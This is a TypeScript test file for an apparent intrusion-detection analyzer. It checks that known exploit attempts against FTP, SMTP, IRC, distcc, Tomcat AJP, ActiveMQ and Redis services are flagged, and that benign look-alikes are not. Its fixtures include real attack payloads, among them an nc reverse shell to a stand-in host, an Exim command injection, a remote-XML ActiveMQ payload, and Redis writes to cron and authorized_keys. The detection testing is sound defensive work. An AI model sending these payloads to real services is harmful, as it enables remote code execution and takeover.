/** Holes of services that are no web servers, as the advisories and Metasploit's modules of these names write the attack; and the same services in daily use. */
import { describe, expect, test } from 'vitest';
import { checkFilter } from '../../../src/analysis/filtering.ts';
import { analyzeCapture, findingsOf } from '../../support/analyzeCapture.ts';
import { dialogue } from '../../support/dialogue.ts';

type Line = readonly ['client' | 'server', string];

const told = async (port: number, lines: readonly Line[]) =>
  findingsOf(await analyzeCapture(dialogue(lines, { client: '203.0.113.66', server: '10.0.0.9', port }).bytes()), 'exploit-attempt');
/** A command of Redis as its clients write it. */
const redis = (...words: readonly string[]): readonly Line[] => [
  ['client', `*${words.length}\r\n${words.map((word) => `$${word.length}\r\n${word}\r\n`).join('')}`],
  ['server', '+OK\r\n'],
];
const ftp = (...commands: readonly string[]): readonly Line[] => [
  ['server', '220 ready\r\n'],
  ...commands.flatMap((command): readonly Line[] => [
    ['client', `${command}\r\n`],
    ['server', '350 Go on\r\n'],
  ]),
];
const mail = (recipient: string): readonly Line[] => [
  ['server', '220 mail ESMTP\r\n'],
  ['client', 'MAIL FROM:<>\r\n'],
  ['server', '250 OK\r\n'],
  ['client', `RCPT TO:<${recipient}>\r\n`],
  ['server', '250 Accepted\r\n'],
];
const distcc = (compiler: string): readonly Line[] => [
  ['client', `DIST00000001ARGC00000003ARGV0000000${compiler.length}${compiler}ARGV00000002-cARGV00000006main.c`],
];

describe('is told', () => {
  test.each<[string, number, readonly Line[]]>([
    ['CVE-2011-2523 (vsftpd)', 21, ftp('USER x:)')],
    ['CVE-2015-3306 (ProFTPD)', 21, ftp('SITE CPFR /proc/self/cmdline', 'SITE CPTO /var/www/html/x.php')],
    ['CVE-2019-10149 (Exim)', 25, mail('${run{\\x2Fbin\\x2Fsh\\t-c\\t\\x22id\\x22}}@localhost')],
    ['CVE-2010-2075 (UnrealIRCd)', 6667, [['client', 'AB;nc -e /bin/sh 192.0.2.1 4444\n']]],
    ['CVE-2004-2687 (distcc)', 3632, distcc('sh')],
    [
      'CVE-2020-1938 (Tomcat, Ghostcat)',
      8009,
      [['client', '\x12\x34\0\x40\x02\x02\0\x08HTTP/1.1\0\0\x02/a\0\x0a\0\x21javax.servlet.include.request_uri\0\0\x01/\0\xff']],
    ],
    [
      'CVE-2023-46604 (ActiveMQ)',
      61_616,
      [
        [
          'client',
          '\0\0\0\x80\x1f\0\0\0\0\x01\0\x42org.springframework.context.support.ClassPathXmlApplicationContext\x01\0\x16http://192.0.2.1/poc.xml',
        ],
      ],
    ],
    ['CVE-2022-0543 (Redis)', 6379, redis('EVAL', 'local io_l = package.loadlib("/usr/lib/liblua5.1.so.0", "luaopen_io")', '0')],
  ])('%s', async (hole, port, lines) => {
    const [finding, ...others] = await told(port, lines);
    expect(others).toEqual([]);
    expect(finding).toMatchObject({
      title: `203.0.113.66 tried to attack 10.0.0.9 port ${port}: Known hole of a service, ${hole}`,
      subjects: [
        { role: 'attacker', address: '203.0.113.66' },
        { role: 'victim', address: '10.0.0.9', port },
      ],
    });
    expect(checkFilter(finding!.evidence.filter)).toMatchObject({ ok: true });
  });
  test.each([
    ['CONFIG', 'SET', 'dir', '/var/spool/cron/'],
    ['CONFIG', 'SET', 'dbfilename', 'authorized_keys'],
    ['MODULE', 'LOAD', '/tmp/exp.so'],
  ])('Redis: %s %s %s %s', async (...words) => expect(await told(6379, redis(...words.filter(Boolean)))).toMatchObject([{ severity: 'high' }]));
});

test.each<[string, number, readonly Line[]]>([
  ['a name with a colon', 21, ftp('USER anna:smith')],
  ['mod_copy as it is meant', 21, ftp('SITE CPFR reports/2026.csv', 'SITE CPTO archive/2026.csv')],
  ['an address with a dollar', 25, mail('list$owner@example.org')],
  ['AB and more', 6667, [['client', 'ABC;hello\n']]],
  ['a compiler', 3632, distcc('gcc')],
  ['the folder of Redis itself', 6379, [...redis('CONFIG', 'SET', 'dir', '/var/lib/redis'), ...redis('CONFIG', 'SET', 'dbfilename', 'dump.rdb')]],
  ['a module of the distribution', 6379, redis('MODULE', 'LOAD', '/opt/redis-stack/lib/redisearch.so')],
])('silent on %s', async (_, port, lines) => expect(await told(port, lines)).toEqual([]));
